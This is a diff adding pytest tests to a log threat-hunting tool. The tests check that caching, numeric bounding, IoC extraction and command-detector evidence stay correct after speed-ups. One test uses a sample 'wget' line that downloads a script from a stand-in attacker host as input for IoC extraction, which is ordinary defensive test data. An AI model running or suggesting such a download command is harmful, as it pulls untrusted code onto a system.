@@ -1,0 +1,107 @@
+"""Speed-ups that must not change what is computed (issue 12).
+
+Each test pins the behaviour the faster code relies on: the command detectors build a
+command's evidence only for rows a rule hit, IoC extraction reads each distinct text once,
+floats are bounded to 64-bit integers without a per-value loop, and the parse cache is
+shared by readers with and without evidence roots.
+"""
+
+from __future__ import annotations
+
+from datetime import timedelta
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+
+from hunting.analysis.iocs import _column_iocs
+from hunting.evidence import parse_roots
+from hunting.readers import read_cached
+from hunting.readers.base import ReadOptions
+from hunting.schema import INT, _numeric
+
+LINE = "Mar  9 10:00:00 web01 sshd[1]: Failed password for root from 203.0.113.7 port 22 ssh2\n"
+
+
+def test_parse_cache_shared_with_and_without_evidence_roots(tmp_path: Path) -> None:
+    """The app (evidence roots set) reuses the CLI's parse of the same file, and roots still refuse."""
+    root = tmp_path / "evidence"
+    root.mkdir()
+    log = root / "auth.log"
+    log.write_text(LINE * 3)  # 3 lines by construction
+    outside = tmp_path / "other.log"
+    outside.write_text(LINE)
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    plain = read_cached(log, ReadOptions(), cache)
+    rooted = read_cached(log, ReadOptions(roots=parse_roots([str(root)])), cache)
+    assert plain.parquet and plain.parquet == rooted.parquet
+    assert plain.account.parsed == rooted.account.parsed == 3
+    assert len(list((cache / "parsed").iterdir())) == 1
+    refused = read_cached(outside, ReadOptions(roots=parse_roots([str(root)])), cache)
+    assert refused.parquet == {} and refused.account.format == "refused"
+
+
+def test_numeric_bounds_floats_to_64_bits() -> None:
+    # 2**63 does not fit int64 (max 2**63 - 1) and is dropped, as is -2**63 (|int(v)| > 2**63 - 1,
+    # the rule the per-value check applied); 2**63 - 1024 is the largest float below 2**63
+    # (float spacing is 1024 there) and stays exact: 9223372036854774784 = 2**63 - 1024.
+    values = [1.0, np.nan, 2.0**63, -(2.0**63), 2.0**63 - 1024, -(2.0**63 - 1024), 2.0**62, 0.0]
+    want = [1, None, None, None, 2**63 - 1024, -(2**63 - 1024), 2**62, 0]
+    for dtype in ("float64", "Float64"):
+        got = _numeric(pd.Series(values, dtype=dtype), INT)
+        assert str(got.dtype) == "Int64"
+        assert [None if pd.isna(v) else int(v) for v in got] == want
+    big = _numeric(pd.Series([1, 2**64, None], dtype=object), INT)  # Python ints past 64 bits
+    assert [None if pd.isna(v) else int(v) for v in big] == [1, None, None]
+
+
+def test_column_iocs_repeated_texts_keep_their_own_rows() -> None:
+    """Identical texts are read once, yet every row reports its IoCs with its own position."""
+    sshd = "Failed password for root from 203.0.113.7 port 22 ssh2"
+    fetch = "wget http://evil.example.com/x.sh -O /tmp/x.sh"
+    text = pd.Series([sshd, "no address here", fetch, sshd, fetch, sshd], index=[10, 11, 12, 13, 14, 15])
+    got = _column_iocs(text)
+    by_row: dict[int, list[tuple[int, str, str]]] = {}
+    for pos, order, kind, value in got:
+        by_row.setdefault(pos, []).append((order, kind, value))
+    assert sorted(by_row) == [10, 12, 13, 14, 15]
+    # read by eye from the lines: the sshd line names one address; the wget line a URL,
+    # its host as a domain and the saved path
+    assert by_row[10] == by_row[13] == by_row[15] == [(0, "ipv4", "203.0.113.7")]
+    kinds = {kind for _, kind, _ in by_row[12]}
+    assert {"url", "dns", "path"} <= kinds
+    assert by_row[12] == by_row[14]
+    assert [o for o, _, _ in by_row[12]] == list(range(len(by_row[12])))
+
+
+def test_command_evidence_built_for_hit_rows_equals_building_all() -> None:
+    """The command detectors build a command's evidence (raw line, user, session) only for the
+    rows a rule hit; a row's evidence must not depend on which other rows are built with it
+    (sudo sessions are matched row by row)."""
+    from hunting.demo.scenario import demo_log_paths
+    from hunting.detections.base import _Ctx, _Sessions, collect
+    from hunting.detections.execution import _command_hits, _commands
+    from hunting.detections.runner import _default_risky, _default_specs
+    from hunting.sources.local import LocalSource
+    from hunting.timerange import TimeRange
+
+    src = LocalSource.from_paths(demo_log_paths())
+    row = src.hosts().set_index("Computer").loc["web01"]
+    data = collect(src, "web01", TimeRange(row["FirstSeen"], row["LastSeen"] + timedelta(milliseconds=1)))
+    ctx = _Ctx(data, _default_specs(), _default_risky(), _Sessions(data.audit, data.users))
+    texts, build = _commands(ctx)
+    every = build(range(len(texts)))
+    assert len(every) == len(texts) > 1000
+    assert {c.origin for c in every.values()} == {"audit", "sudo", "cron"}
+    sudo = [p for p, c in every.items() if c.origin == "sudo"]
+    assert any(every[p].session for p in sudo)  # some sudo lines are matched to an audit session
+    sample = sudo[::3] + list(range(0, len(texts), 97))
+    some = build(sample)
+    assert set(some) == set(sample) and all(some[p] == every[p] for p in sample)
+    hits, picked = _command_hits(ctx)
+    assert len(hits) and set(picked) == set(hits["Row"].tolist())
+    for pos, cmd in picked.items():
+        assert cmd == every[pos]
+        assert cmd.command == texts.iloc[pos]
+    assert _command_hits(ctx)[1] is picked  # computed once per pass, shared by both detectors
